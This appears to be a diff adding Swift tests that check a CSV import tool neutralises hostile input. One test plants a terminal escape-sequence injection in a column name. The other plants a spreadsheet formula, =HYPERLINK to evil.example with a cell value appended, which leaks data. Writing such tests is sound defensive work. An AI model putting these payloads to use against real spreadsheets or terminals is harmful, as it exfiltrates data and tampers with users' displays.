@@ -1,0 +1,54 @@
+import Foundation
+import Testing
+
+/// Text from a hostile file that reaches the user's terminal or spreadsheet.
+@Suite struct TerminalAndFormulaTests {
+    /// The MG sample's header and first two rows with one more column, named with escape sequences.
+    static func escapedHeader(_ dir: URL) throws -> String {
+        let sample = try String(
+            contentsOf: Hostile.sampleData.appendingPathComponent("consulta_cand_2018_MG.csv"), encoding: .isoLatin1)
+        let lines = sample.split(separator: "\n", omittingEmptySubsequences: false).prefix(3).map(String.init)
+        let evil = "NOVA\u{1B}]0;PWNED\u{07}\u{1B}[2J\u{9B}31m"
+        let text = lines[0] + ";\"\(evil)\"\n" + lines[1] + ";\"x\"\n" + lines[2] + ";\"x\"\n"
+        try Data(text.utf8).write(to: dir.appendingPathComponent("evil.csv"))
+        return "evil.csv"
+    }
+
+    @Test("An escape sequence in a header column's name never reaches the terminal: shown as \\x1B")
+    func escapesInWarnings() throws {
+        let dir = try Hostile.folder()
+        let file = try Self.escapedHeader(dir)
+        let r = try Hostile.urna(["import", "--db", "e.sqlite", "--encoding", "utf8", file], in: dir)
+        #expect(r.code == 0, "\(r.stderr)")
+        // It printed ESC ] 0 ; ... BEL (retitles the window) and ESC [ 2 J (clears the screen) as they were.
+        for output in [r.stdout, r.stderr] {
+            #expect(!output.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x07 || $0.value == 0x9B })
+        }
+        #expect(r.stdout.contains("column NOVA\\x1B]0;PWNED\\x07\\x1B[2J\\x9B31M"), "\(r.stdout)")
+    }
+
+    @Test("A planted row that begins like a formula is kept byte for byte in the rejects file, and warned of")
+    func formulaInRejects() throws {
+        let dir = try Hostile.folder()
+        let sample = try String(
+            contentsOf: Hostile.sampleData.appendingPathComponent("consulta_cand_2018_MG.csv"), encoding: .isoLatin1)
+        let lines = sample.split(separator: "\n").prefix(2).map(String.init)
+        let planted = "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")"
+        try Data((lines + [planted, "\"a\";\"b\""]).joined(separator: "\n").utf8 + [0x0A])
+            .write(to: dir.appendingPathComponent("f.csv"))
+        let r = try Hostile.urna(["import", "--db", "f.sqlite", "f.csv"], in: dir)
+        #expect(r.code == 0, "\(r.stderr)")
+        let rejects = String(decoding: Hostile.bytes(dir, "f.sqlite.rejects.csv") ?? Data(), as: UTF8.self)
+        #expect(rejects.contains("\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"click\"\")\""))
+        #expect(
+            r.stdout.contains(
+                "warning: f.sqlite.rejects.csv: 1 cell begins like a spreadsheet formula (first: line 3, column original)"),
+            "\(r.stdout)")
+        // A rejects file without such cells says nothing of formulas.
+        try Data((lines + ["\"a\";\"b\""]).joined(separator: "\n").utf8 + [0x0A])
+            .write(to: dir.appendingPathComponent("g.csv"))
+        let quiet = try Hostile.urna(["import", "--db", "g.sqlite", "g.csv"], in: dir)
+        #expect(quiet.code == 0, "\(quiet.stderr)")
+        #expect(!quiet.stdout.contains("formula"), "\(quiet.stdout)")
+    }
+}
